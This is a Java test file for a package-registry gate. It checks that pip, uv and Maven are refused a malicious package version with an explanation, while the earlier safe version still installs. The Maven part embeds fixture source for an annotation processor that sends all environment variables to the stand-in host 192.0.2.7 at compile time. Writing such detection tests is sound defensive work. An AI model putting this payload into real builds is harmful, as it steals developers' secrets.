package cordon.gate.client;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import cordon.base.Ecosystem;
import cordon.gate.GateHouse;
import cordon.testkit.archive.Compiled;
import cordon.testkit.client.ClientCache;
import cordon.testkit.client.ClientRun;
import cordon.testkit.client.MvnClient;
import cordon.testkit.client.PipClient;
import cordon.testkit.client.PythonClients;
import cordon.testkit.client.UvClient;
import cordon.testkit.registry.MavenRelease;
import cordon.testkit.registry.MavenRepository;
import cordon.testkit.registry.PypiIndex;
import java.net.URI;
import java.nio.file.Path;
import org.junit.jupiter.api.Test;

/** As pip, uv and Maven show it. */
class InspectionThroughPythonAndMavenTest extends InspectionThroughClients {
  private PypiIndex pythonIndex() {
    PypiIndex index = with(PypiIndex.start());
    index.publish("demo-pkg", "1.0").publish(HARMFUL_WHEEL);
    return index;
  }

  private static Path need(ClientCache.Client client) {
    assumeTrue(client.availability().available(), client.availability().detail());
    return client.folder();
  }

  @Test
  void aMaliciousWheelIsExplainedToPipAndThenTheReleaseBeforeItIsTaken() throws Exception {
    assumeTrue(PipClient.available().available(), PipClient.available().detail());
    GateHouse house = house(Ecosystem.PYPI, pythonIndex().simple());
    URI simple = URI.create(house.url() + "/pypi/simple/");
    refused(
        new PipClient(dir("pinned"), simple).install("demo-pkg==1.1"),
        "demo-pkg 1.1 is blocked (" + PTH_RULE + " at demo_init.pth:1), allowed: 1.0");
    PipClient ranged = new PipClient(dir("ranged"), simple);
    ClientRun run = ranged.install("demo-pkg>=1");
    succeeded(run);
    assertThat(run.output()).contains("demo-pkg-1.0");
    String file = "/pypi/files/demo-pkg/" + HARMFUL_WHEEL.fileName();
    assertThat(house.facts("gate.refused"))
        .anySatisfy(f -> assertThat(f.subject()).isEqualTo("pkg:pypi/demo-pkg@1.1"));
    assertThat(house.get(file).status()).isNotEqualTo(200);
    assertThat(house.facts("gate.pull"))
        .extracting(f -> f.body())
        .noneMatch(body -> body.contains("\"file\":\"" + HARMFUL_WHEEL.fileName() + "\""));
  }

  @Test
  void uvShowsTheWholeReason() throws Exception {
    Path installation = need(PythonClients.uv());
    GateHouse house = house(Ecosystem.PYPI, pythonIndex().simple());
    URI simple = URI.create(house.url() + "/pypi/simple/");
    refused(
        new UvClient(dir("pinned"), simple, installation).install("demo-pkg==1.1"),
        "demo-pkg 1.1 is blocked",
        PTH_RULE,
        "demo_init.pth:1");
    UvClient ranged = new UvClient(dir("ranged"), simple, installation);
    succeeded(ranged.install("demo-pkg>=1"));
    assertThat(ranged.installed("demo_pkg")).isTrue();
  }

  // ----------------------------------------------------------------------------------- Maven

  private static final String PROCESSOR =
      "package a; import java.net.*; public class Lead { public void init(Object o) throws Exception {"
          + " URLConnection c = new URL(\"http://192.0.2.7/x\").openConnection(); c.setDoOutput(true);"
          + " c.getOutputStream().write(System.getenv().toString().getBytes()); } }";

  private static MavenRelease harmfulJar() {
    MavenRelease release =
        MavenRelease.of("com.example", "demo", "1.1")
            .entry(
                "META-INF/services/javax.annotation.processing.Processor", "a.Lead\n".getBytes());
    return Compiled.classes("a.Lead", PROCESSOR).entrySet().stream()
        .reduce(release, (r, e) -> r.entry(e.getKey(), e.getValue()), (a, b) -> b);
  }

  @Test
  void aMaliciousJarIsExplainedToMaven() throws Exception {
    assumeTrue(MvnClient.available().available(), MvnClient.available().detail());
    MavenRepository repository = with(MavenRepository.start());
    repository.publish("com.example", "demo", "1.0");
    repository.publish(harmfulJar());
    GateHouse house = house(Ecosystem.MAVEN, repository.url());
    MvnClient mvn = new MvnClient(dir("mvn"), URI.create(house.url() + "/maven/"));
    refused(
        mvn.resolve("com.example:demo:1.1"),
        "com.example:demo 1.1 is blocked (install-takes-secrets",
        "allowed: 1.0");
    assertThat(mvn.hasJar("com.example:demo:1.1")).isFalse();
    succeeded(mvn.resolve("com.example:demo:1.0"));
    waive(house, Ecosystem.MAVEN, "com.example:demo", "1.1");
    mvn.forget("com/example/demo");
    succeeded(mvn.resolve("com.example:demo:1.1"));
  }
}
